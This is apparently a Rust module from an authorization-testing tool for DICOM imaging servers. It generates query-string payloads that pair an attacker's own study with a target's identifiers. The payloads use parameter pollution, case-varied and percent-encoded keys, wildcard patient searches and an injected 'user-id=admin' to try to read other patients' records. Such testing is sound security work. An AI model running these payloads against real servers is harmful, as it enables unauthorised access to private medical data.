//! The arguments that routes take, with foreign things in them.
use crate::routes::Target;

/// For one route; the first is none. `own` is a study that the attacker may see.
pub fn arguments(template: &str, at: &Target, own: &Target) -> Vec<String> {
    let mut all = vec![String::new()];
    let below = |root: &str| template.starts_with(root);
    if template == "/wado" {
        let (o, s, e) = (&at.instance_uid, &at.study_uid, &at.series_uid);
        let (own_o, own_s, own_e) = (&own.instance_uid, &own.study_uid, &own.series_uid);
        for content in ["application/dicom", "image/jpeg", "image/png"] {
            all.push(format!("requestType=WADO&objectUID={o}&studyUID={s}&seriesUID={e}&contentType={content}"));
            all.push(format!(
                "requestType=WADO&studyUID={own_s}&seriesUID={own_e}&objectUID={o}&contentType={content}"
            ));
        }
        all.push(format!("requestType=WADO&objectUID={o}"));
        all.push(format!("requestType=WADO&objectUID={own_o}&objectUID={o}"));
        all.push(format!("requestType=WADO&objectUID={o}&objectUID={own_o}"));
        all.push(format!("requestType=WADO&objectuid={own_o}&objectUID={o}&contentType=application/dicom"));
        all.push(format!("requestType=WADO&objectUID={own_o}%5C{o}&contentType=application/dicom"));
        all.push(format!("requestType=WADO&objectUID={own_o}&%6fbjectUID={o}&contentType=application/dicom"));
    } else if template.starts_with("/tools/create-") {
        for id in at.ids() {
            all.push(format!("resources={id}"));
            all.push(format!("resources={},{id}", own.study));
            all.push(format!("resources={id},{}", own.study));
            all.push(format!("resources={}&resources={id}", own.study));
            all.push(format!("resources={id}&resources={}", own.study));
            all.push(format!("resources={}%2C{id}", own.study));
            all.push(format!("Resources={}&resources={id}", own.study));
            all.push(format!("%72esources={id}&resources={}", own.study));
            all.push(format!("resources={}%20{id}", own.study));
        }
        all.push("resources=".to_owned());
        all.push(format!("resources={}&lossy-quality=10&transcode=1.2.840.10008.1.2.4.50&filename=x", at.study));
    } else if below("/dicom-web/") && !below("/dicom-web/servers") {
        searches(&mut all, at, own);
        all.push("accept=application/dicom".to_owned());
        all.push("accept=image/png&quality=50&viewport=4,4".to_owned());
    } else if ["/patients", "/studies", "/series", "/instances"].iter().any(|level| below(level)) {
        all.push("expand".to_owned());
        all.push("expand&requestedTags=PatientName;StudyDescription;SeriesDescription;ImageComments".to_owned());
        all.push("requestedTags=NumberOfPatientRelatedStudies;PatientName;StudyInstanceUID".to_owned());
        all.push("requested-tags=StudyDescription&full&expand=true".to_owned());
        all.push("since=0&limit=1000&expand".to_owned());
        all.push("short&simplify&expand".to_owned());
        all.push(format!("expand&id={}&study={}&series={}&instance={}", at.patient, at.study, at.series, at.instance));
        all.push(format!("returnUnsupportedImage&timeout=1&metadata={}", at.study));
    } else if below("/changes") || below("/exports") {
        all.push("last".to_owned());
        all.push("since=0&limit=10000".to_owned());
        all.push("type=NewStudy;NewInstance&to=10000".to_owned());
    } else if below("/osimis") || below("/stl") || below("/wsi") || below("/transfers") {
        all.push(format!("study={}&instance={}", at.study, at.instance));
    } else {
        all.push("expand".to_owned());
        all.push("since=0&limit=1000&expand&simplify".to_owned());
        all.push(format!("id={}&resource={}&resources={}&user-id=admin", at.study, at.study, at.study));
    }
    all
}

/// QIDO-RS, and what is like it.
fn searches(all: &mut Vec<String>, at: &Target, own: &Target) {
    let (uid, own_uid) = (&at.study_uid, &own.study_uid);
    for keyword in ["StudyInstanceUID", "0020000D", "0020000d", "studyinstanceuid", "%30020000D"] {
        all.push(format!("{keyword}={uid}"));
        all.push(format!("{keyword}={own_uid},{uid}"));
        all.push(format!("{keyword}={own_uid}%5C{uid}"));
        all.push(format!("{keyword}={own_uid}&{keyword}={uid}"));
        all.push(format!("StudyInstanceUID={own_uid}&{keyword}={uid}"));
        all.push(format!("{keyword}={own_uid}&StudyInstanceUID={uid}"));
    }
    for rest in [
        "includefield=all".to_owned(),
        "StudyInstanceUID=2.25.*&includefield=all".to_owned(),
        "StudyInstanceUID=*".to_owned(),
        "PatientName=*&fuzzymatching=true&includefield=00081030".to_owned(),
        "limit=1000&offset=0&includefield=all".to_owned(),
        "limit=-1&offset=-1".to_owned(),
        format!("PatientID={}&includefield=all", at.patient_id),
        format!("AccessionNumber={}", at.accession),
        format!("SeriesInstanceUID={}", at.series_uid),
        format!("SeriesInstanceUID={}%5C{}", own.series_uid, at.series_uid),
        format!("SOPInstanceUID={}&includefield=all", at.instance_uid),
        "includefield=00201200,00201202,00201204,NumberOfPatientRelatedStudies".to_owned(),
        "full=true&requestedTags=PatientName".to_owned(),
    ] {
        all.push(rest);
    }
}
